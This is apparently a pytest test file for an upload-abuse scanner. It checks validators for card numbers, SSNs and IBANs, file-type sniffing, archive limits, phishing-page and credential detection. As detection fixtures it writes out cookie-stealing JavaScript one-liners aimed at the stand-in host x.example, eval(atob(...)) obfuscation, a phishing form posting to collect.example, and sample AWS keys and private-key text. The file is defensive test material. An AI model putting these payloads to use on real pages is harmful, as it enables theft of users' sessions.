"""Pure scanning: validators, type sniffing, chunk boundaries, archives, verdicts and tags (no AWS)."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aup.detectors.uploads import detectors
from aup.detectors.uploads.filetype import sniff
from aup.detectors.uploads.scanner import ScanEngine, ScanStatus
from aup.detectors.uploads.signatures import compile_rules
from aup.detectors.uploads.text import TextScanner, card_issuer, iban_valid, luhn_ok, ssn_valid
from aup.detectors.uploads.verdict import Verdict, merge_tags, verdict
from aup.policy import load_default_policy
from aup.policy.sections.uploads import Streaming, UploadScanning
from tests.unit.uploads import samples

POLICY = load_default_policy()


def scan(data: bytes, name: str, settings: UploadScanning | None = None) -> tuple[object, list]:
    engine = ScanEngine(settings or POLICY.upload_scanning, compile_rules(), ("CIMCON",))
    result = engine.scan(io.BytesIO(data), name)
    obj = detectors.UploadedObject(
        "b", f"accounts/acme/{name}", "v1", "e", len(data), "acme", datetime.now(UTC)
    )
    return result, detectors.content_findings(obj, result, POLICY, {})


def test_validators() -> None:
    assert luhn_ok(b"4111111111111111") and not luhn_ok(b"4111111111111112")
    assert card_issuer(b"371449635398431") == "amex" and card_issuer(b"1234567890123452") is None
    assert ssn_valid(b"123", b"45", b"6780") and not ssn_valid(b"666", b"12", b"3456")
    assert not ssn_valid(b"900", b"12", b"3456") and not ssn_valid(b"078", b"05", b"1120")
    good = samples.iban("DE", "370400440532013000")
    assert iban_valid(good[:2].encode(), good[2:4].encode(), good[4:].encode())
    assert not iban_valid(b"DE", b"00", b"370400440532013000")


@pytest.mark.parametrize(
    "data,kind,label",
    [
        (samples.pe_executable(), "executable", "pe"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "executable", "elf"),
        (samples.mp4_video(4096), "video", "mp4"),
        (samples.mp3_audio(4096), "audio", "mp3"),
        (samples.eicar_zipped(), "archive", "zip"),
        (samples.html_onerror_exfiltration(), "html", "html"),
        (b"order,amount\n1,2\n", "text", "text"),
    ],
)
def test_sniff_by_content(data: bytes, kind: str, label: str) -> None:
    ftype = sniff(data, "whatever.jpg")
    assert (ftype.kind, ftype.label) == (kind, label)


@given(st.binary(max_size=2048), st.text(max_size=30))
def test_sniff_never_crashes(data: bytes, name: str) -> None:
    assert sniff(data, name).kind


@settings(max_examples=40, deadline=None)
@given(st.integers(min_value=1, max_value=4000))
def test_text_counts_do_not_depend_on_chunking(chunk: int) -> None:
    text = samples.cards_csv(25) + samples.ssn_csv(12) + b"mail a@b.example and x.y@c.example\n" * 3
    whole = TextScanner(POLICY.upload_scanning)
    whole.feed(text)
    expected = whole.close()
    pieces = TextScanner(POLICY.upload_scanning)
    for i in range(0, len(text), chunk):
        pieces.feed(text[i : i + chunk])
    got = pieces.close()
    assert (got.cards, got.ssns, got.emails, got.distinct_emails) == (expected.cards, expected.ssns, 6, 2)
    assert expected.cards == 25 and expected.ssns == 12


def test_eicar_split_across_chunks_is_found() -> None:
    tight = UploadScanning(streaming=Streaming(chunk_bytes=4096, overlap_bytes=256))
    data = b"A" * 4070 + samples.EICAR + b"B" * 9000
    _, findings = scan(data, "notes.txt", tight)
    assert [f.rule_id for f in findings] == ["I3-malware-signature"]


def test_deep_nesting_is_scanned_and_beyond_the_limit_is_not_scanned_not_a_bomb() -> None:
    data = samples.EICAR
    for depth in range(5):
        data = samples.zip_bytes({f"level{depth}.zip" if depth else "eicar.com": data})
    result, findings = scan(data, "deep.zip")
    assert result.status is ScanStatus.complete and result.bomb is None
    assert [f.rule_id for f in findings] == ["I3-malware-signature"]
    shallow = UploadScanning(archives={"max_depth": 2})
    result, findings = scan(
        samples.zip_bytes({"a.zip": samples.zip_bytes({"b.zip": data})}), "d.zip", shallow
    )
    assert result.bomb is None and result.status is ScanStatus.too_large
    assert "I3-archive-bomb" not in {f.rule_id for f in findings}
    assert verdict(result.status, findings, POLICY) is Verdict.not_scanned


def test_member_count_limit_is_not_scanned_and_encrypted_zip() -> None:
    small = UploadScanning(archives={"max_members": 5})
    result, findings = scan(samples.zip_bytes({f"f{i}.txt": b"x" for i in range(6)}), "many.zip", small)
    assert result.bomb is None and result.status is ScanStatus.too_large and findings == []
    assert verdict(result.status, findings, POLICY) is Verdict.not_scanned
    result, findings = scan(samples.encrypted_zip(), "vault.zip")
    assert result.status is ScanStatus.encrypted and findings == []
    assert verdict(result.status, findings, POLICY) is Verdict.not_scanned


def test_bare_script_tag_goes_to_review_not_threat() -> None:
    result, findings = scan(b"<html><body><script>console.log(1)</script></body></html>", "page.html")
    (f,) = findings
    assert f.rule_id == "I3-script-in-document" and f.confidence < POLICY.rule(f.rule_id).confidence_bar
    assert verdict(result.status, findings, POLICY) is Verdict.review


def test_visible_trademark_is_fine_hidden_is_not() -> None:
    _, visible = scan(b"<html><body><p>We integrate with CIMCON sensors.</p></body></html>", "a.html")
    assert visible == []
    _, hidden = scan(samples.hidden_trademark_page(), "b.html")
    assert [f.rule_id for f in hidden] == ["W6-hidden-trademark"]
    assert set(hidden[0].evidence["hiding_methods"]) >= {"display", "css-class", "same-colour-text"}


@pytest.mark.parametrize(
    "body",
    [
        # an FAQ's collapsed answer, which its stylesheet shows once the question is opened
        b"<style>.answer{display:none}.open .answer{display:block}</style>"
        b'<div class="q"><div class="answer">Acme is built on the CIMCON platform.</div></div>',
        # a menu a media query shows on small screens
        b"<style>.mobile{display:none}@media (max-width:600px){.mobile{display:flex}}</style>"
        b'<nav class="mobile"><a href="/s">Status on CIMCON</a></nav>',
        # a hidden menu its button opens by id
        b"<button onclick=\"document.getElementById('m').hidden=false\">Menu</button>"
        b'<nav id="m" hidden><a href="/s">Status on CIMCON</a></nav>',
        # the same text shown elsewhere on the page (a responsive duplicate)
        b'<nav style="display:none"><a href="/s">Status (hosted on CIMCON)</a></nav>'
        b'<nav><a href="/s">Status (hosted on CIMCON)</a></nav>',
    ],
)
def test_a_mark_in_hidden_text_the_page_itself_shows_is_a_review_not_stuffing(body: bytes) -> None:
    """Before, each was W6 at 0.9: a strike for a page that only says what it is built on."""
    result, findings = scan(
        b"<html><head><title>Acme</title></head><body>" + body + b"</body></html>", "a.html"
    )
    (f,) = [f for f in findings if f.rule_id == "W6-hidden-trademark"]
    assert (f.confidence, f.evidence["in_text_the_page_shows"], f.evidence["in_hidden_text"]) == (
        0.6,
        {"CIMCON": 1},
        {},
    )
    assert verdict(result.status, [f], POLICY) is Verdict.review


def test_stuffing_beside_hidden_text_the_page_shows_is_still_stuffing() -> None:
    page = (
        b"<html><head><style>.answer{display:none}.open .answer{display:block}.kw{display:none}</style></head>"
        b'<body><div class="answer">Built on CIMCON.</div><span class="kw">CIMCON cheap CIMCON</span>'
        b"<p>Built on CIMCON!</p></body></html>"  # the .kw copy is shown nowhere: it still stuffs
    )
    result, findings = scan(page, "a.html")
    (f,) = findings
    assert (f.confidence, f.evidence["in_hidden_text"], f.evidence["in_text_the_page_shows"]) == (
        0.9,
        {"CIMCON": 2},
        {"CIMCON": 1},
    )
    assert verdict(result.status, findings, POLICY) is Verdict.violation


def test_few_cards_go_to_review_and_business_csv_is_clean() -> None:
    few = "\n".join(f"card {c}" for c in samples.valid_cards(4)).encode()
    _, findings = scan(few, "few.txt")
    assert [f.rule_id for f in findings] == ["W2-personal-data"]
    result, findings = scan(samples.business_csv(), "orders.csv")
    assert findings == [] and verdict(result.status, findings, POLICY) is Verdict.clean


def test_hash_list_match_flags_a_mandatory_report() -> None:
    import hashlib

    data = b"anything at all"
    engine = ScanEngine(POLICY.upload_scanning, compile_rules(), ())
    result = engine.scan(io.BytesIO(data), "x.bin")
    obj = detectors.UploadedObject(
        "b", "accounts/acme/x.bin", None, "e", len(data), "acme", datetime.now(UTC)
    )
    lists = {"abuse_material": frozenset({hashlib.sha256(data).hexdigest()})}
    (f,) = detectors.content_findings(obj, result, POLICY, lists)
    assert f.rule_id == "I2-abuse-material-hash" and f.evidence["mandatory_report"] is True
    assert verdict(result.status, [f], POLICY) is Verdict.threat


def test_merge_tags_keeps_the_uploaders_and_stays_within_ten() -> None:
    ours = {
        "aup-verdict": "clean",
        "aup-scan": "complete",
        "aup-rules": "",
        "aup-sha256": "ab",
        "aup-account": "x",
    }
    theirs = [{"Key": f"t{i}", "Value": "v"} for i in range(3)] + [{"Key": "aup-verdict", "Value": "forged"}]
    tags, dropped = merge_tags(theirs, ours)
    keys = [t["Key"] for t in tags]
    assert dropped == 0 and keys[:3] == ["t0", "t1", "t2"] and "aup-rules" not in keys
    assert {"Key": "aup-verdict", "Value": "clean"} in tags and len(tags) == 7
    full = [{"Key": f"t{i}", "Value": "v"} for i in range(10)]
    tags, dropped = merge_tags(full, ours)
    assert len(tags) == 10 and dropped == 2 and {t["Key"] for t in tags} >= {"aup-verdict", "aup-scan"}


# --- a customer's own web site, sign-in page and README (found by the eval corpus's review) ---------


def _script_confidence(page: bytes, name: str = "page.html") -> float | None:
    _, findings = scan(page, name)
    found = [f.confidence for f in findings if f.rule_id == "I3-script-in-document"]
    return found[0] if found else None


def _reviewed_script(page: bytes, name: str) -> dict[str, Any]:
    """Scan ``page``: its one finding must be a script-tag review; return its evidence."""
    result, findings = scan(page, name)
    (f,) = findings
    assert f.confidence == POLICY.upload_scanning.scripts.script_tag_confidence
    assert verdict(result.status, findings, POLICY) is Verdict.review
    return f.evidence


def test_a_pages_own_controls_and_void_links_are_a_review_not_a_threat() -> None:
    page = (
        b"<html><body><button onclick=\"document.getElementById('m').classList.toggle('open')\">Menu</button>"
        b'<form onsubmit="return check()"><input onchange="save(this)"></form>'
        b'<a href="javascript:void(0)">Cart</a><a href="javascript:;">x</a></body></html>'
    )
    evidence = _reviewed_script(page, "index.html")
    assert evidence["interaction_handlers"] == {"onclick": 1, "onsubmit": 1, "onchange": 1}
    assert evidence["javascript_urls"] == 0


@pytest.mark.parametrize(
    "page",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
        b'<html><body><input autofocus onfocus="alert(1)"></body></html>',
        b'<html><body><a href="javascript:void(0);alert(1)">x</a></body></html>',
    ],
)
def test_handlers_that_run_by_themselves_and_working_script_urls_stay_threats(page: bytes) -> None:
    assert _script_confidence(page) == POLICY.upload_scanning.scripts.handler_confidence


def test_a_page_fetching_its_own_data_is_no_exfiltration_but_sending_cookies_is() -> None:
    scripts = POLICY.upload_scanning.scripts
    own = b"<html><body><script>fetch('/api/items').then(r=>r.json());localStorage.theme='dark'</script></body></html>"
    assert _script_confidence(own) == scripts.script_tag_confidence
    steal = b"<html><body><script>new Image().src='//x.example/?'+document.cookie</script></body></html>"
    assert _script_confidence(steal) == scripts.exfiltration_confidence
    hidden = b"<html><body><script>eval(atob('YWxlcnQoMSk='))</script></body></html>"
    assert _script_confidence(hidden) == scripts.exfiltration_confidence


CONSENT_BANNER = (
    b"<html><body><div id=consent hidden><button onclick=choose(true)>Accept</button></div><script>"
    b"function consented(){return document.cookie.split('; ').find(function(c){return c.indexOf('consent=')===0})}"
    b"function choose(yes){document.cookie='consent='+(yes?'yes':'no')+'; path=/';"
    b"fetch('/api/consent',{method:'POST',body:JSON.stringify({accepted:yes})});if(yes)load()}"
    b"function load(){var s=document.createElement('script');s.src='https://www.googletagmanager.com/gtag/js';"
    b"document.head.appendChild(s)}var c=consented();if(!c)document.getElementById('consent').hidden=false;"
    b"</script></body></html>"
)


def test_a_consent_banner_parsing_and_writing_its_cookie_beside_requests_is_no_exfiltration() -> None:
    markers = _reviewed_script(CONSENT_BANNER, "index.html")["exfiltration_markers"]
    assert markers["document.cookie:kept"] == 2
    assert "document.cookie" not in markers


def test_a_csrf_token_read_from_the_cookie_and_sent_to_the_pages_own_path_is_no_theft() -> None:
    script = (
        b"fetch('/api/orders',{method:'POST',headers:{'X-CSRF-Token':"
        b"document.cookie.match(/csrftoken=([^;]+)/)[1]},body:JSON.stringify(order)})"
    )
    evidence = _reviewed_script(b"<html><body><script>" + script + b"</script></body></html>", "cart.html")
    assert evidence["exfiltration_markers"] == {"fetch": 1, "document.cookie:to-own-paths": 1}
    badge = (  # an SVG badge showing the cookie's size: the namespace is no host
        b"var t=document.createElementNS('http://www.w3.org/2000/svg','text');"
        b"t.setAttribute('data-size', document.cookie.length);fetch('/api/badge')"
    )
    markers = _reviewed_script(b"<html><body><script>" + badge + b"</script></body></html>", "b.html")
    assert markers["exfiltration_markers"]["document.cookie:to-own-paths"] == 1
    stolen = script.replace(b"'/api/orders'", b"'https://x.example/orders'")  # the same, to another host
    assert _script_confidence(b"<html><body><script>" + stolen + b"</script></body></html>") == (
        POLICY.upload_scanning.scripts.exfiltration_confidence
    )


@pytest.mark.parametrize(
    "script",
    [
        "fetch('//x.example/c?'+document.cookie.replace(/;/g,'&'))",  # parsed, then joined into a URL
        "var c = document.cookie;\nnew Image().src = '//x.example/?' + c;",  # through a variable
        "const d=document.cookie,u='//x.example';fetch(u,{method:'POST',body:d})",  # an object's value
        "fetch(`//x.example/?${document.cookie}`)",
        "navigator.sendBeacon('//x.example', btoa(document.cookie))",
        "document.cookie='seen=1';location='//x.example/?'+document.cookie",  # a write beside a theft
    ],
)
def test_a_cookie_handed_on_to_a_request_is_exfiltration_however_it_is_spelt(script: str) -> None:
    page = f"<html><body><script>{script}</script></body></html>".encode()
    assert _script_confidence(page) == POLICY.upload_scanning.scripts.exfiltration_confidence


def test_a_page_using_atob_and_eval_apart_runs_nothing_hidden_but_running_what_atob_decoded_is() -> None:
    scripts = POLICY.upload_scanning.scripts
    apart = (
        b"<html><body><script>var claims=JSON.parse(atob(token.split('.')[1]));</script>"
        b"<script>var x=new XMLHttpRequest();x.onload=function(){render(eval('('+x.responseText+')'))};"
        b"x.open('GET','/api/menu');x.send()</script></body></html>"
    )
    assert {"eval", "atob"} <= set(_reviewed_script(apart, "legacy.html")["exfiltration_markers"])
    for hidden in (
        "var p = window.atob('YWxlcnQoMSk=');\nsetTimeout(p, 10)",
        "Function(atob('YWxlcnQoMSk='))()",
        "eval( self.atob('YWxlcnQoMSk=') )",
    ):
        page = f"<html><body><script>{hidden}</script></body></html>".encode()
        assert _script_confidence(page) == scripts.exfiltration_confidence, hidden


def test_a_login_page_naming_brands_in_passing_is_no_phishing_page() -> None:
    page = (
        b"<html><head><title>Sign in - Acme Shop</title></head><body><h1>Sign in to Acme Shop</h1>"
        b'<form action="/session"><input type="password" name="pw"><button>Sign in</button></form>'
        b'<p>Or continue with <a href="/auth/google">Google</a>.</p><footer>We accept PayPal.</footer></body></html>'
    )
    _, findings = scan(page, "login.html")
    assert "W1-phishing-page" not in {f.rule_id for f in findings}
    _, findings = scan(samples.phishing_page(), "verify.html")  # PayPal in its title and heading
    (f,) = [f for f in findings if f.rule_id == "W1-phishing-page"]
    assert f.evidence["brands"] == ["PayPal"]


INTEGRATIONS_PAGE = (
    b"<html><head><title>Integrations - Acme CRM</title></head><body><h1>Integrations</h1>"
    b'<h2>Amazon S3 export</h2><form action="/api/integrations/s3" method="post">'
    b'<label>Access key ID <input name="key_id"></label>'
    b'<label>Secret access key <input type="password" name="secret_access_key"></label></form>'
    b'<h2>PayPal payouts</h2><form action="/api/integrations/paypal" method="post">'
    b'<label>PayPal client secret <input type="password" id="paypal-client-secret"></label></form>'
    b'<h2>Microsoft 365 mail</h2><form action="/api/integrations/smtp" method="post">'
    b'<label>SMTP password <input type="password" name="smtp_password"></label></form></body></html>'
)


def test_a_settings_page_asking_for_a_brands_key_or_secret_is_a_review_not_a_phishing_page() -> None:
    """An integrations page names the services it connects in its headings and labels, and masks
    their secrets. Before, it was a 0.85 phishing page (struck): now a review."""
    result, findings = scan(INTEGRATIONS_PAGE, "integrations.html")
    (f,) = findings
    assert (f.rule_id, f.confidence) == ("W1-phishing-page", 0.6)
    assert f.evidence["brands"] == ["Amazon", "Microsoft", "PayPal"] and f.evidence["secret_fields_only"]
    assert verdict(result.status, findings, POLICY) is Verdict.review


@pytest.mark.parametrize(
    "field",
    [
        b'<input type="password" name="pw">',
        b'<input type="password" name="passwd" id="i0118">',  # the field a Microsoft sign-in kit copies
        b'<input type="password" name="client_secret" autocomplete="current-password">',
        b'<input type="password" name="client_password">',  # a client portal's sign-in
    ],
)
def test_a_sign_in_password_under_a_brands_name_stays_a_phishing_page(field: bytes) -> None:
    page = (
        b"<html><head><title>Sign in to your Microsoft account</title></head><body><h1>Microsoft</h1>"
        b'<form action="https://collect.example/"><input name="login">' + field + b"</form></body></html>"
    )
    result, findings = scan(page, "login.html")
    (f,) = findings
    assert (f.rule_id, f.confidence, f.evidence["secret_fields_only"]) == ("W1-phishing-page", 0.85, False)
    assert verdict(result.status, findings, POLICY) is Verdict.violation


def test_awss_documented_example_keys_are_no_credentials() -> None:
    doc = b"export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nASIAIOSFODNN7EXAMPLE\n"
    _, findings = scan(doc, "README.md")
    assert "W2-cloud-credentials" not in {f.rule_id for f in findings}
    _, findings = scan(b"export AWS_ACCESS_KEY_ID=AKIA2OGYBAH6TXQ4ZR7M\n", "deploy.sh")
    assert "W2-cloud-credentials" in {f.rule_id for f in findings}


# Found probing honest uploads: a CloudTrail archive writes an access key id into every event, and every
# file of it struck as leaked credentials. An id names a key; its secret is the credential.

_ID, _SECRET = "AKIA2OGYBAH6TXQ4ZR7M", "q8Yz3vKfT0bW/9mRr1Lp+XcN4eJd7HsGa2UoViQk"


def _cloud(findings: list) -> tuple[float, dict[str, int]]:
    (f,) = [f for f in findings if f.rule_id == "W2-cloud-credentials"]
    return float(f.confidence), dict(f.evidence["kinds"])


def test_a_key_id_beside_its_secret_is_a_credential_and_strikes() -> None:
    profile = f"[default]\naws_access_key_id = {_ID}\naws_secret_access_key = {_SECRET}\n".encode()
    sts = (
        b'{"Credentials": {"AccessKeyId": "ASIA2OGYBAH6TXQ4ZR7M", "SecretAccessKey": "%s"}}'
        % _SECRET.encode()
    )
    script = f"export AWS_ACCESS_KEY_ID={_ID}\nexport AWS_SECRET_ACCESS_KEY={_SECRET}\n".encode()
    for data, name in [(profile, "home/.aws/credentials"), (sts, "ci/session.json"), (script, "ci/env.sh")]:
        result, findings = scan(data, name)
        assert _cloud(findings) == (0.9, {"aws-access-key": 1}), name
        assert verdict(result.status, findings, POLICY) is Verdict.violation


def test_key_ids_without_their_secret_are_a_review_and_temporary_ones_nothing() -> None:
    event = '{"userIdentity": {"type": "%s", "accessKeyId": "%s"}, "eventID": "3f9c1e1e-0e6e-4a3b-9e1d-6c1d2b3a4f5e"}'
    trail = "\n".join(event % ("AssumedRole", f"ASIA2OGYBAH6TXQ4Z{i:03d}") for i in range(50))
    _, findings = scan(trail.encode(), "AWSLogs/trail.json")
    assert "W2-cloud-credentials" not in {f.rule_id for f in findings}
    sha1 = "9fceb02d0ae598e95dc970b74767f19372d61af8"  # a commit id: 40 characters, no upper case
    for text in [
        trail + "\n" + event % ("IAMUser", _ID),
        f"Credential={_ID}/20261130/us-east-1/s3\ncommit {sha1}",
    ]:
        result, findings = scan(text.encode(), "logs/requests.log")
        assert _cloud(findings) == (0.6, {"aws-access-key-id": 1})
        assert verdict(result.status, findings, POLICY) is Verdict.review
    far = f"{_ID}\n{'#' * 600}\n{_SECRET}\n"  # a secret out of reach belongs to no id here
    assert _cloud(scan(far.encode(), "notes.txt")[1]) == (0.6, {"aws-access-key-id": 1})
    documented = b"AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
    assert "W2-cloud-credentials" not in {f.rule_id for f in scan(documented, "README.md")[1]}


# Found probing honest uploads (eval projects-with-own-keys): every PEM private key struck as a cloud
# credential: a repository's TLS test key, node_modules' test fixtures, a home directory's ~/.ssh key,
# even a guide's placeholder (the header, then "..."). A private key is its owner's, not a cloud key.

_BODY = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/Iz"


@pytest.mark.parametrize("label", ["RSA PRIVATE KEY", "EC PRIVATE KEY", "PRIVATE KEY", "OPENSSH PRIVATE KEY"])
def test_a_private_key_alone_is_a_review_not_a_strike(label: str) -> None:
    key = f"-----BEGIN {label}-----\n{_BODY[:64]}\n{_BODY[64:]}\n-----END {label}-----\n".encode()
    result, findings = scan(key, "tests/fixtures/server.key")
    assert _cloud(findings) == (0.6, {"private-key": 1})
    assert findings[0].evidence["private_keys_only"] is True
    assert verdict(result.status, findings, POLICY) is Verdict.review


def test_placeholders_and_passphrase_protected_keys_are_not_counted() -> None:
    for text in [
        "```\n-----BEGIN RSA PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----\n```\n",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F1\n\n" + _BODY,
        f"-----BEGIN ENCRYPTED PRIVATE KEY-----\n{_BODY}\n-----END ENCRYPTED PRIVATE KEY-----\n",
    ]:
        assert "W2-cloud-credentials" not in {
            f.rule_id for f in scan(text.encode(), "guides/tls-setup.txt")[1]
        }, text


def test_a_private_key_beside_a_cloud_credential_still_strikes() -> None:
    gcp = (
        '{"type": "service_account", "project_id": "acme", "private_key": "-----BEGIN PRIVATE KEY-----\\n'
        + _BODY
        + '\\n-----END PRIVATE KEY-----\\n"}'
    )
    result, findings = scan(gcp.encode(), "ci/gcp-key.json")
    assert _cloud(findings) == (0.9, {"gcp-service-account": 1, "private-key": 1})  # its escaped key too
    assert verdict(result.status, findings, POLICY) is Verdict.violation
    pair = f"{_ID}\n{_SECRET}\n-----BEGIN EC PRIVATE KEY-----\n{_BODY}\n".encode()
    assert _cloud(scan(pair, "deploy/all.txt")[1]) == (0.9, {"aws-access-key": 1, "private-key": 1})
    weak = f"{_ID}\n-----BEGIN EC PRIVATE KEY-----\n{_BODY}\n".encode()
    assert _cloud(scan(weak, "deploy/id.txt")[1]) == (0.6, {"aws-access-key-id": 1, "private-key": 1})


PUBLISHED_TEST_CARDS = [  # Stripe's, Braintree's and the networks' sandbox numbers
    "4242424242424242", "4000056655665556", "5555555555554444", "2223003122003222", "5105105105105100",
    "378282246310005", "6011111111111117", "3056930009020004", "3566002020360505", "4000000000009995",
    "4111111111111111", "4012888888881881",
]  # fmt: skip


def test_published_test_card_numbers_are_nobodys_cards() -> None:
    assert len(PUBLISHED_TEST_CARDS) >= POLICY.upload_scanning.personal_data.bulk_min
    fixture = "\n".join(f'{{"card": "{c}", "exp": "12/34", "cvc": "123"}}' for c in PUBLISHED_TEST_CARDS)
    result, findings = scan(fixture.encode(), "fixtures/cards.json")
    assert findings == [] and verdict(result.status, findings, POLICY) is Verdict.clean
    real = "\n".join(
        f'{{"card": "{c}", "exp": "12/34"}}' for c in samples.valid_cards(len(PUBLISHED_TEST_CARDS))
    )
    _, findings = scan(real.encode(), "export/cards.json")
    assert [f.rule_id for f in findings] == ["W2-bulk-personal-data"]


# Found by the eval corpus's review (invoice-archive): a firm's own IBAN in the footer of each of its
# invoices was counted once per mention, so a year of invoices was "bulk personal data" (a strike).


def _bulk(findings: list) -> bool:
    return "W2-bulk-personal-data" in {f.rule_id for f in findings}


def _distinct_ibans(n: int, seed: int = 5) -> list[str]:
    import random

    rnd = random.Random(seed)
    return [samples.iban("DE", "".join(str(rnd.randrange(10)) for _ in range(18))) for _ in range(n)]


def test_one_iban_in_every_invoice_of_an_archive_is_no_bulk_personal_data() -> None:
    (own,) = _distinct_ibans(1)
    invoices = {
        f"invoices/INV-{i:04d}.txt": f"Invoice {i}\nPlease pay to IBAN {own}\n-- Acme GmbH, IBAN {own}\n".encode()
        for i in range(40)
    }
    result, findings = scan(samples.zip_bytes(invoices), "backups/invoices.zip")
    assert not _bulk(findings) and verdict(result.status, findings, POLICY) is Verdict.clean


def test_many_peoples_ibans_split_over_the_files_of_an_archive_are_bulk() -> None:
    ibans = _distinct_ibans(40)
    parts = {f"part-{k}.csv": "\n".join(ibans[10 * k : 10 * k + 10]).encode() for k in range(4)}
    _, findings = scan(samples.zip_bytes(parts), "data/accounts.zip")
    assert _bulk(findings)


def test_one_card_repeated_is_one_card() -> None:
    (card,) = samples.valid_cards(1)
    _, findings = scan("\n".join(f"order {i}: paid with {card}" for i in range(40)).encode(), "orders.txt")
    assert not _bulk(findings)


def test_cards_are_not_drowned_by_one_failing_number_repeated() -> None:
    """10,000 copies of one issuer-prefixed number that fails Luhn made 40 real cards look like chance
    passes among 10,040 candidates; distinct candidates are 41."""
    cards = samples.valid_cards(40)
    decoy = "4" + "1" * 14 + ("0" if not luhn_ok(b"4" + b"1" * 14 + b"0") else "1")
    assert not luhn_ok(decoy.encode()) and card_issuer(decoy.encode())
    text = "\n".join(cards + [decoy] * 10_000).encode()
    _, findings = scan(text, "export/payments.txt")
    assert _bulk(findings)


# Found by the eval corpus's review (country-codes-csv): any text opening with "MZ" (Mozambique's
# country code, a code like MZ-2291) was sniffed as a DOS executable, so a .csv or .txt was a disguised
# executable: a temporary suspension.


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"MZ,Mozambique,Maputo,33897354\nNA,Namibia,Windhoek,2604172\nZA,South Africa,Pretoria,62027503\n" * 3,
         "data/countries.csv"),
        (b"MZ-2291 shipment manifest\nPallets: 14\nCarrier: Maersk, Durban to Maputo\n" * 3, "docs/manifest.txt"),
    ],
)  # fmt: skip
def test_text_opening_with_mz_is_text_not_an_executable(data: bytes, name: str) -> None:
    assert sniff(data[:4096], name).kind == "text"
    result, findings = scan(data, name)
    assert findings == [] and verdict(result.status, findings, POLICY) is Verdict.clean


def test_a_dos_header_is_still_an_executable_whatever_its_name() -> None:
    assert sniff(samples.pe_executable()).kind == "executable"
    dos_only = b"MZ" + bytes(range(1, 0x3A + 1)) + b"\xff\xff\x00\x10"  # e_lfanew far beyond the head
    assert sniff(dos_only + b"\x00" * 64).kind == "executable"
    _, findings = scan(samples.pe_executable(), "holiday/photo.jpg")
    assert "I3-disguised-executable" in {f.rule_id for f in findings}


# Found while checking the sniffer against text: a magic of printable characters opening a text file
# ("ID3 tags,...", "FLV,fleet", "Rar!") or "%PDF-" in its first KiB made it media, an archive or a PDF,
# so the text detectors never read it: 40 card numbers behind such a first line were a clean upload.


@pytest.mark.parametrize(
    "first_line",
    [b"ID3 tags,export", b"FLV,fleet", b"OggS,x", b"fLaC,x", b"Rar!,x", b"BZh9,x", b"note: %PDF-1.7 parsing"],
)
def test_a_text_file_cannot_hide_behind_a_printable_magic(first_line: bytes) -> None:
    result, findings = scan(first_line + b"\n" + samples.cards_csv(40), "export/cards.csv")
    assert [f.rule_id for f in findings] == ["W2-bulk-personal-data"]
    assert verdict(result.status, findings, POLICY) is Verdict.violation


@pytest.mark.parametrize(
    ("head", "kind", "label"),
    [
        (samples.bz2_bytes(b"order,amount\n" * 50), "archive", "bzip2"),
        (samples.bz2_bytes(b""), "archive", "bzip2"),
        (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 56, "archive", "rar"),
        (b"OggS\x00\x02" + b"\x00" * 58, "audio", "ogg"),
        (b"fLaC\x00\x00\x00\x22" + b"\x10" * 56, "audio", "flac"),
        (b"FLV\x01\x05\x00\x00\x00\x09" + b"\x00" * 55, "video", "flv"),
        (samples.mp3_audio(4096), "audio", "mp3"),
    ],
)
def test_the_formats_themselves_are_still_known(head: bytes, kind: str, label: str) -> None:
    t = sniff(head[:4096], "file")
    assert (t.kind, t.label) == (kind, label)


def test_a_pdf_behind_junk_is_a_pdf_and_its_text_is_read() -> None:
    polyglot = samples.cards_csv(40)[:900] + b"\n%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    t = sniff(polyglot[:4096], "report.pdf")
    assert (t.kind, t.label, t.read_as_text) == ("document", "pdf", True)
    _, findings = scan(polyglot, "docs/report.pdf")
    assert "W2-bulk-personal-data" in {f.rule_id for f in findings}
    assert not sniff(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "a.pdf").read_as_text


# Found the same way: text in a legacy encoding (Russian in cp1251, Japanese in Shift_JIS as
# spreadsheets export it, Chinese in GB18030) has most of its bytes above 0x7F and is no UTF-8, so it
# was "binary": the text detectors skipped it and 40 card numbers in it were a clean upload.

LEGACY_ROWS = {
    "cp1251": "ФИО,номер карты,адрес доставки\n{}Иванов Иван Петрович,{},Москва, ул. Тверская, д. 7",
    "shift_jis": "氏名,カード番号,住所\n{}山田太郎,{},東京都千代田区丸の内一丁目",
    "gb18030": "姓名,卡号,地址\n{}王小明,{},北京市朝阳区建国路八十八号",
    "euc_kr": "이름,카드 번호,주소\n{}김민수,{},서울특별시 중구 세종대로 110",
}


@pytest.mark.parametrize("codec", sorted(LEGACY_ROWS))
def test_text_in_a_legacy_encoding_is_read_as_text(codec: str) -> None:
    header, row = LEGACY_ROWS[codec].split("{}", 1)
    text = header + "\n".join(row.format(c) for c in samples.valid_cards(40)) + "\n"
    data = text.encode(codec)
    assert sniff(data[:4096], "export.csv").kind == "text"
    _, findings = scan(data, "export/customers.csv")
    assert [f.rule_id for f in findings] == ["W2-bulk-personal-data"]


def test_binary_data_is_still_binary() -> None:
    import random

    noise = random.Random(4).randbytes(8192)
    assert sniff(noise, "blob.dat").kind == "binary"
    assert sniff(bytes(b | 0x80 for b in noise[:4000]) + b"\x01\x02" * 40, "blob.dat").kind == "binary"


# Found the same way: a PDF's words were never read by the text detectors (they sit in compressed
# content streams, under the fonts' encodings), so a PDF listing 40 card numbers was a clean upload.


@pytest.mark.parametrize("compress", [True, False])
def test_the_words_of_a_pdf_are_read(compress: bool) -> None:
    data = samples.text_pdf([f"Card {c} exp 12/29" for c in samples.valid_cards(40)], compress=compress)
